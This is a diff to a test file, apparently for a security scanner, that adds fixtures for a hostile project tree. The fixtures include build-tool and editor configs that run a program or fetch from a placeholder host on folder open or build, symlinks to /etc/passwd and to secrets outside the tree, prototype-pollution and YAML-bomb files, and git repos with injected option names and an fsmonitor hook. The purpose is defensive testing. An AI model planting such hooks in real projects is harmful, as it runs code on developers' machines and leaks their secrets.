@@ -59,6 +59,8 @@ beforeAll(() => {
   manifests();
   names();
   places();
+  buildTools();
+  nestedRepositories();
   repository();
 });
 
@@ -169,6 +171,109 @@ function places(): void {
   truncateSync(join(tree, 'sparse.json'), 20_000_000_000);
   put('closed.py', 'x = 1\n');
   chmodSync(join(tree, 'closed.py'), 0);
+}
+
+/** What build tools, package managers, editors and shells run as soon as they are started in a folder, or fetch before. */
+function buildTools(): void {
+  const program = touch('tool');
+  put('.npmrc.d/.npmrc', `//10.255.255.1/:tokenHelper=${join(outside, 'helper')}\nscript-shell=${program}\n`);
+  put(
+    '.yarnrc.yml',
+    `yarnPath: ../outside/yarn.cjs\nplugins: [{path: ../outside/p.cjs, spec: "http://10.255.255.1/p.js"}]\n`,
+  );
+  put('.pnpmfile.cjs', `require("child_process").execSync(${JSON.stringify(program)})\n`);
+  put(
+    'pnpm-workspace.yaml',
+    'packages: ["../outside/**", "/etc/*"]\nconfigDependencies: {a: "http://10.255.255.1/a.tgz"}\n',
+  );
+  put(
+    '.cargo/config.toml',
+    `[build]\nrustc-wrapper = "${program}"\n[target.x]\nrunner = "${program}"\n[source.x]\nregistry = "http://10.255.255.1/"\n[registry]\ncredential-provider = ["${program}"]\n`,
+  );
+  put('build.rs', `fn main() { std::process::Command::new("sh").arg("-c").arg("${program}").status(); }\n`);
+  put('gradle/wrapper/gradle-wrapper.properties', 'distributionUrl=http\\://10.255.255.1/gradle.zip\n');
+  put('gradlew', `#!/bin/sh\n${program}\n`);
+  put('settings.gradle', `"${program}".execute()\n`);
+  put(
+    '.mvn/extensions.xml',
+    '<extensions><extension><groupId>a</groupId><artifactId>b</artifactId></extension></extensions>',
+  );
+  put('.mvn/jvm.config', `-javaagent:${join(outside, 'a.jar')}\n`);
+  put('Makefile', `X := $(shell ${program})\nall:\n\t${program}\n`);
+  put('Rakefile', `system(${JSON.stringify(program)})\n`);
+  put(
+    'Gemfile',
+    `eval_gemfile "../outside/Gemfile"\nsystem(${JSON.stringify(program)})\nsource "http://10.255.255.1"\n`,
+  );
+  put(
+    'composer.json',
+    JSON.stringify({
+      scripts: { 'pre-install-cmd': program },
+      repositories: [{ type: 'path', url: '../outside' }],
+    }),
+  );
+  put(
+    'pyproject.toml',
+    `[build-system]\nrequires = ["x @ http://10.255.255.1/x.whl"]\nbuild-backend = "evil"\nbackend-path = ["../outside"]\n`,
+  );
+  put('conftest.py', `import os\nos.system("${program}")\n`);
+  put(
+    '.devcontainer/devcontainer.json',
+    JSON.stringify({
+      initializeCommand: program,
+      dockerFile: '../../outside/secret.env',
+      features: { '10.255.255.1/f:1': {} },
+    }),
+  );
+  put('.envrc', `${program}\n`);
+  put(
+    '.vscode/tasks.json',
+    JSON.stringify({ tasks: [{ command: program, runOptions: { runOn: 'folderOpen' } }] }),
+  );
+  put('go.work', 'go 1.22\nuse ../outside\n');
+  put(
+    'nested/seaworthy.yaml',
+    `a: &a [x, x, x, x, x, x, x, x, x]\n${'bcdefgh'.replace(/./g, (letter, at) => `${letter}: &${letter} [${`*${'abcdefg'[at]}, `.repeat(9)}]\n`)}`,
+  );
+  put(
+    'nested/deep/seaworthy.yaml',
+    '__proto__: {policy: {incomplete: warn}}\nconstructor: {prototype: {a: 1}}\npolicy: {__proto__: {fail-on: [none]}}\n',
+  );
+  put('.trivyignore', '*\n__proto__ exp:2099-01-01 # owner=x\n');
+  put('DOCKERFILE', 'FROM a\nUSER root\n');
+  put('package-lock.json\n/package.json', '{"name":"b","dependencies":{"__proto__":"1"}}');
+  symlinkSync('/proc/self/root/etc/passwd', join(tree, 'root.env'));
+  symlinkSync('/proc/self/fd/0', join(tree, 'requirements-in.txt'));
+  symlinkSync(`/proc/self/cwd/../../../../../../../..${outside}/secret.env`, join(tree, 'cwd.env'));
+  spawnSync('python3', [
+    '-c',
+    `import socket; socket.socket(socket.AF_UNIX).bind(${JSON.stringify(join(tree, 'compose.override.yaml'))})`,
+  ]);
+}
+
+/** Repositories in folders of the tree whose parts lie elsewhere, or have names that are no names. */
+function nestedRepositories(): void {
+  const head = 'ref: refs/heads/main\n';
+  put('common/.git/HEAD', head);
+  put('common/.git/commondir', `${outside}\n`);
+  put('common/.git/gitdir', `${outside}/.git\n`);
+  put('common/app.py', 'x = 1\n');
+  put('packed/.git/HEAD', 'ref: refs/heads/--upload-pack=touch\n');
+  put(
+    'packed/.git/packed-refs',
+    `# pack-refs with: peeled\n${'a'.repeat(40)} refs/heads/--output=/etc/x\n${'b'.repeat(40)} refs/../../../outside/x\n${'c'.repeat(40)} refs/heads/\u001b[2J\n`,
+  );
+  put(
+    'packed/.git/config',
+    '[core]\n\tbare = false\n\tworktree = /\n[extensions]\n\tworktreeConfig = true\n',
+  );
+  put('packed/.git/config.worktree', `[core]\n\tfsmonitor = ${touch('worktree')}\n\tsparseCheckout = true\n`);
+  put('packed/.git/info/sparse-checkout', '/*\n!/app.py\n');
+  put('packed/.git/info/grafts', `${'a'.repeat(40)} ${'b'.repeat(40)}\n`);
+  put('packed/.git/shallow', `${'a'.repeat(40)}\n`);
+  mkdirSync(join(tree, 'packed/.git/objects'), { recursive: true });
+  symlinkSync(outside, join(tree, 'packed/.git/objects/pack'));
+  symlinkSync(outside, join(tree, 'packed/.git/refs'));
 }
 
 /** A repository whose configuration runs programs wherever git looks at files, asks a remote, or lies elsewhere. */
